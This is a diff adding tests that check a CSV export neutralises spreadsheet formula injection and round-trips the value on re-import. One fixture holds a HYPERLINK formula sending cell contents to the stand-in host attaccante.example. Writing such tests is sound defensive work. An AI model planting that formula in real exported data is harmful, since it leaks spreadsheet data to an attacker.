@@ -135,3 +135,30 @@ def test_import_creates_missing_vocabulary_entries(client, indice, pratiche, tmp
     call_command("importa_pratiche", str(file), stdout=out)
     assert "metodologie:peer-education" in out.getvalue()
     assert Metodologia.objects.filter(slug="peer-education").exists()
+
+
+FORMULA = '=HYPERLINK("http://attaccante.example/?d="&A1,"Clicca qui")'
+
+
+def test_csv_export_writes_a_title_that_is_a_formula_as_text(client, indice, pratiche):
+    BuonaPraticaPage.objects.filter(pk=pratiche[1].pk).update(title=FORMULA, abstract="+39 055 123456")
+
+    risposta = esporta(client, indice, "csv", "?ordina=titolo")
+
+    righe = {r["slug"]: r for r in csv.DictReader(io.StringIO(risposta.content.decode("utf-8")))}
+    riga = righe[pratiche[1].slug]
+    # A spreadsheet shows a cell starting with an apostrophe as text: no link, no formula runs.
+    assert riga["titolo"] == "'" + FORMULA
+    assert riga["abstract"] == "'+39 055 123456"
+    assert not any(valore.startswith(("=", "+", "-", "@")) for r in righe.values() for valore in r.values())
+
+
+def test_a_formula_title_comes_back_unchanged_from_export_and_import(client, indice, pratiche, tmp_path):
+    BuonaPraticaPage.objects.filter(pk=pratiche[1].pk).update(title=FORMULA)
+    file = tmp_path / "pratiche.csv"
+    file.write_bytes(esporta(client, indice, "csv").content)
+    _pulisci(indice)
+
+    call_command("importa_pratiche", str(file))
+
+    assert BuonaPraticaPage.objects.get(slug=pratiche[1].slug).title == FORMULA
